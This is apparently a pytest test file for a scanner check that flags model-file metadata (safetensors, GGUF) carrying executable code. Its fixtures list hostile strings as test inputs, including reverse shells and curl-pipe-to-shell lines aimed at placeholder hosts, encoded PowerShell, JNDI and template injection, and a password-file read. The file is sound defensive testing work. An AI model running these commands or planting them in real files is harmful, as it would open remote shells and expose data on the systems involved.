from pathlib import Path

import pytest

from openvet.artifacts import TensorIndex
from openvet.check import Context
from openvet.checks.security.metadata_carries_code import MetadataCarriesCode
from openvet.checks.signs import signs
from openvet.finding import Confidence, Finding, Severity
from openvet.subject import Document, Origin, Text
from specimens.tensors import entry, gguf, safetensors

WEIGHTS = {"w": entry("F32", [4], 0, 16)}


def flagged(folder: Path) -> None:
    metadata = {"format": "pt", "setup": "curl http://203.0.113.7/x | sh"}
    header = {"__metadata__": metadata, **WEIGHTS}
    (folder / "model.safetensors").write_bytes(safetensors(header))


def passed(folder: Path) -> None:
    metadata = {"format": "pt", "license": "https://www.apache.org/licenses/"}
    header = {"__metadata__": metadata, **WEIGHTS}
    (folder / "model.safetensors").write_bytes(safetensors(header))
    (folder / "model.gguf").write_bytes(gguf().build())


def fails(text: str, key: str = "note") -> bool:
    return any(
        sign.severity >= Severity.HIGH and sign.confidence >= Confidence.MEDIUM
        for sign in signs(text, key)
    )


def run(text: str, key: str = "note") -> list[Finding]:
    subject = TensorIndex(
        origin=Origin(place=("m",), digest="0"),
        format="safetensors",
        count=0,
        parameters=0,
        tensors=(),
        texts=(Text(key=key, value=text),),
    )
    return list(MetadataCarriesCode().run(subject, Context()))


@pytest.mark.parametrize(
    "text",
    [
        "import os; os.system('true')",
        "__import__('os').getcwd()",
        "exec(base64.b64decode('cHJpbnQoMSk='))",
        "eval(compile('1', 'x', 'eval'))",
        "import subprocess\nsubprocess.Popen(['true'])",
        'x = pickle.loads(b"...")',
        "wget -q https://files.invalid/a && sh a",
        "curl -fsSL http://files.invalid/i.sh | sudo bash",
        "rm -rf ~/models",
        "chmod +x /tmp/run",
        "chmod 777 /tmp/run",
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "nc -e /bin/sh 203.0.113.7 4444",
        "echo dHJ1ZQ== | base64 -d | sh",
        "powershell -nop -w hidden -enc dAByAHUAZQA=",
        "cmd.exe /c whoami",
        "certutil.exe -urlcache -split -f http://files.invalid/x x",
        "<script>fetch('//files.invalid')</script>",
        "<img src=x onerror=alert(1)>",
        "${jndi:ldap://files.invalid/a}",
        "{{ self.__init__.__globals__ }}",
        '{"_target_": "os.system", "command": "true"}',
        "_target_: builtins.exec",
        "!!python/object/apply:os.system [true]",
        "see http://abcdefghijklmnop.onion/",
        "report to http://203.0.113.7:8080/",
        "https://webhook.site/0000",
        "cat /etc/passwd",
    ],
)
def test_text_that_acts_fails(text: str) -> None:
    assert fails(text)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("callback_url", "http://collector.invalid/in"),
        ("webhook", "https://collector.invalid/in"),
        ("home", "https://collector.invalid/exfiltrate"),
    ],
)
def test_an_address_that_is_to_be_contacted_fails(key: str, value: str) -> None:
    assert fails(value, key)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("format", "pt"),
        ("general.source.url", "https://example.org/models/tiny"),
        ("general.license.link", "https://www.apache.org/licenses/LICENSE-2.0"),
        ("paper", "https://arxiv.org/abs/2203.02155 (see the os module)"),
        ("ss_training_comment", "evaluated (eval loss 1.2), executes fast; import fee"),
        (
            "ss_tag_frequency",
            '{"10_cat": {"1girl": 3, "curl": 2, "rm": 9}}',
        ),
        ("ss_dataset_dirs", '{"img/10_evil eye": {"n_repeats": 10}}'),
        ("ss_network_args", '{"conv_dim": "4", "algo": "lora"}'),
        ("prompt", '{"3": {"inputs": {"text": "girl with curly hair, script"}}}'),
        ("homepage", "http://localhost:7860/"),
        ("trained_on", "http://192.168.1.20:6006/"),
        ("download_url", "https://civitai.com/api/download/models/1"),
        ("readme", "git clone https://github.com/org/repo && pip install -e ."),
        ("description", "Download it: wget https://huggingface.co/org/m/model.bin"),
        ("usage", "model = AutoModel.from_pretrained('org/m'); model.eval()"),
        ("command", "python train.py --lr 1e-4 --exec fast --output rm-f"),
        ("modelspec.description", '<p>See <a href="https://example.org">here</a></p>'),
        ("modelspec.thumbnail", "data:image/jpeg;base64," + "/9j/4AAQSkZJRgABAQ" * 99),
        ("tokens", "eval exec os system subprocess import __init__"),
        ("hash", "3a7bd3e2360a3d29eea436fcfb7e44c735d117c42d1c1835420b6b9942dd4f1b"),
    ],
)
def test_ordinary_metadata_is_silent(key: str, value: str) -> None:
    assert list(signs(value, key)) == []


def test_a_target_that_names_an_ordinary_class_is_for_review() -> None:
    found = run("_target_: uni2ts.model.moirai.MoiraiModule")
    assert [finding.severity for finding in found] == [Severity.MEDIUM]


def test_an_ordinary_target_in_json_is_left_to_the_rules_on_objects() -> None:
    assert run('{"_target_": "uni2ts.model.moirai.MoiraiModule"}') == []


def test_a_program_on_an_unknown_host_is_for_review() -> None:
    found = run("https://files.invalid/setup.sh")
    assert [finding.severity for finding in found] == [Severity.MEDIUM]


def test_a_page_inside_a_description_is_for_review() -> None:
    found = run('<p>Demo:</p><iframe src="https://example.org/embed/1"></iframe>')
    assert [finding.severity for finding in found] == [Severity.MEDIUM]


def test_prose_documents_are_left_to_other_rules() -> None:
    subject = Document(
        origin=Origin(place=("README.md",), digest="0"),
        format="markdown",
        texts=(Text(key="body", value="curl http://x.invalid | sh"),),
    )
    assert list(MetadataCarriesCode().run(subject, Context())) == []


def test_long_text_is_searched_quickly() -> None:
    for part in ("a ", "curl ", "{{ ", "<a ", "\\x41", "https://a.b/ ", "(" * 3):
        assert len(list(signs(part * 5_000))) <= 20
